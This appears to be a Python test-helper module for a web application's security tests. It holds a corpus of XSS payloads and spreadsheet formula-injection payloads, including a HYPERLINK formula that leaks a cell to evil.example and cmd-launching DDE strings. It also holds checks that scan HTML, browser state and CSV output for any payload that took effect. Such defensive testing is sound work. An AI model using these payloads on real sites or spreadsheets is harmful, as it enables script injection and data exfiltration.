"""A corpus of XSS and spreadsheet-formula payloads, and the checks that none of them took effect.

Every script payload, if it ever ran, would set `window.__xss` or leave an element carrying
`data-xss`, so a page where `window.__xss` is undefined and no `[data-xss]` element exists really
ran none of them. The markup checks read server HTML the way a browser would (lxml's HTML parser)
and look for what an injection leaves: an element or attribute that came from a payload, a
`javascript:`/`data:` address.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from dataclasses import dataclass

from lxml import html as lxml_html

MARKER_ATTRIBUTE = "data-xss"
SCRIPT = "window.__xss=1"


@dataclass(frozen=True)
class Payload:
    kind: str
    text: str


XSS_PAYLOADS = (
    Payload("script tag", f"<script>{SCRIPT}</script>"),
    Payload("handler, unquoted", f"<img src=x onerror={SCRIPT} data-xss>"),
    Payload("handler, double-quote breakout", f'"><img src=x onerror="{SCRIPT}" data-xss="1">'),
    Payload("handler, single-quote breakout", f"'><svg onload='{SCRIPT}' data-xss='1'>"),
    Payload("handler, unquoted-attribute breakout", f" x autofocus onfocus={SCRIPT} data-xss "),
    Payload("javascript: link", f'<a href="javascript:{SCRIPT}" data-xss>link</a>'),
    Payload("data: link", f'<a href="data:text/html,<script>{SCRIPT}</script>" data-xss>data</a>'),
    Payload("svg script", f"<svg><script>{SCRIPT}</script></svg>"),
    Payload(
        "svg animate", f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s data-xss></svg>"
    ),
    Payload("mathml", f"<math><mtext><table><mglyph><style><img src=x onerror={SCRIPT} data-xss>"),
    Payload("textarea breakout", f"</textarea><img src=x onerror={SCRIPT} data-xss>"),
    Payload("script breakout", f"</script><script>{SCRIPT}</script>"),
    Payload("title breakout", f"</title></desc><img src=x onerror={SCRIPT} data-xss>"),
    Payload(
        "template syntax",
        "{{constructor.constructor('window.__xss=1')()}} {% debug %} ${window.__xss=1}",
    ),
    Payload(
        "css vectors",
        f'<p style="background:url(javascript:{SCRIPT});x:expression({SCRIPT})" data-xss>css</p>',
    ),
    Payload("style import", "<style>@import 'javascript:window.__xss=1';</style>"),
    Payload("details toggle", f"<details open ontoggle={SCRIPT} data-xss>"),
    Payload("iframe srcdoc", '<iframe srcdoc="<script>parent.__xss=1</script>" data-xss></iframe>'),
    Payload("rtl override", f"\u202e<script>{SCRIPT}</script>\u202c"),
    Payload(
        "zero width", f"<scr\u200bipt>{SCRIPT}</scr\u200bipt><img\u200b src=x onerror={SCRIPT}>"
    ),
    Payload("fullwidth", f"\uff1cscript\uff1e{SCRIPT}\uff1c/script\uff1e"),
)
FORMULA_PAYLOADS = (
    Payload("csv hyperlink", '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'),
    Payload("csv plus", "+cmd|' /C calc'!A0"),
    Payload("csv minus", "-1+1"),
    Payload("csv at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Payload("csv tab", "\t=1+1"),
    Payload("csv carriage return", "\r=1+1"),
    Payload("csv space", " =1+1"),
    Payload("csv zero width", "\u200b=1+1"),
    Payload("csv infinity", "-inf"),
)
# Formula payloads first: a field filled from payload k onwards starts with a formula for the first
# few k.
PAYLOADS = FORMULA_PAYLOADS + XSS_PAYLOADS
# Addresses for fields that hold a URL (a link, an image, a video): each would run script if used as
# one.
URL_PAYLOADS = (
    f"javascript:{SCRIPT}",
    f"JaVaScRiPt:{SCRIPT}",
    f" \tjava\nscript:{SCRIPT}",
    f"data:text/html,<script>{SCRIPT}</script>",
    f"vbscript:{SCRIPT}",
)
# Visible as text wherever a payload lands in a plain-text field: proof that it was escaped, not
# dropped.
VISIBLE_TEXT = f"<script>{SCRIPT}</script>"
UNSAFE_URL = re.compile(r"^\s*(javascript|data|vbscript):", re.IGNORECASE)


def packed(limit: int, payloads=PAYLOADS) -> list[str]:
    """Every payload that fits `limit` characters, packed into as few such texts as possible (one
    per line)."""
    texts, current = [], ""
    for payload in payloads:
        if len(payload.text) > limit:
            continue
        candidate = f"{current}\n{payload.text}" if current else payload.text
        if len(candidate) > limit:
            texts.append(current)
            candidate = payload.text
        current = candidate
    return [*texts, current]


def starting_at(index: int, limit: int = 2000) -> list[str]:
    """Every payload, payload `index` first (so that records filled with 0, 1, 2... start
    differently), packed."""
    start = index % len(PAYLOADS)
    return packed(limit, PAYLOADS[start:] + PAYLOADS[:start])


ALL = packed(2000)[0]


def injected_markup(html: str) -> list[str]:
    """What payload markup became real in this HTML: elements, handler attributes, unsafe
    addresses."""
    tree = lxml_html.fromstring(f"<div>{html}</div>")
    found = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        for name, value in element.attrib.items():
            name = name.lower()
            if name == MARKER_ATTRIBUTE or name.startswith("on") or name == "srcdoc":
                found.append(f"<{element.tag} {name}={value[:60]!r}>")
            elif name in ("href", "src", "xlink:href", "action", "formaction") and UNSAFE_URL.match(
                value
            ):
                found.append(f"<{element.tag} {name}={value[:60]!r}>")
            elif name == "style" and re.search(r"expression|javascript:", value, re.IGNORECASE):
                found.append(f"<{element.tag} style={value[:60]!r}>")
        if element.tag in ("script", "style") and "__xss" in (element.text or ""):
            found.append(f"<{element.tag}>{(element.text or '')[:60]}")
        if element.tag in ("iframe", "object", "embed", "animate", "mglyph"):
            found.append(f"<{element.tag}>")
    return found


def assert_no_injection(html: str, where: str) -> None:
    found = injected_markup(html)
    assert not found, f"payload markup became real in {where}: {found[:5]}"


def formula_cells(csv_text: str) -> list[str]:
    """The cells a spreadsheet would run as a formula: their first visible character (after blanks,
    controls and zero-width or direction marks) is =, +, - or @, and they are no plain number."""
    dangerous = []
    for row in csv.reader(io.StringIO(csv_text)):
        for cell in row:
            visible = "".join(char for char in cell if unicodedata.category(char)[0] not in "ZC")
            if visible[:1] in ("=", "+", "-", "@") and not _is_number(visible):
                dangerous.append(cell)
    return dangerous


def _is_number(text: str) -> bool:
    return re.fullmatch(r"[-+]?\d+(\.\d+)?%?", text.strip()) is not None


# Run in the page after rendering: what a payload would have left if any of it had run.
BROWSER_PROBE = """() => ({
  flag: typeof window.__xss === 'undefined' ? null : String(window.__xss),
  markers: document.querySelectorAll('[data-xss]').length,
  handlers: Array.from(document.querySelectorAll('.spoc-block *')).filter(
    el => Array.from(el.attributes).some(a => a.name.startsWith('on'))).length,
})"""


def watch_page(page) -> list[str]:
    """Record every dialog (and dismiss it) and every console error of a page, from now on."""
    events = []

    def on_dialog(dialog):
        events.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def on_console(message):
        # Sanitised author HTML keeps an <img src=x> of a payload: the browser asks for "x", a 404,
        # not a script.
        if message.type == "error" and not message.text.startswith("Failed to load resource"):
            events.append(f"console: {message.text}")

    page.on("dialog", on_dialog)
    page.on("console", on_console)
    return events


def assert_page_clean(page, events: list[str], where: str) -> None:
    """No payload ran in the page: no flag, no marker element, no handler attribute, no dialog, no
    error."""
    probe = page.evaluate(BROWSER_PROBE)
    assert probe == {"flag": None, "markers": 0, "handlers": 0}, (
        f"a payload took effect in {where}: {probe}"
    )
    assert not events, f"{where}: {events}"
    assert not page.js_errors, f"{where}: {page.js_errors}"
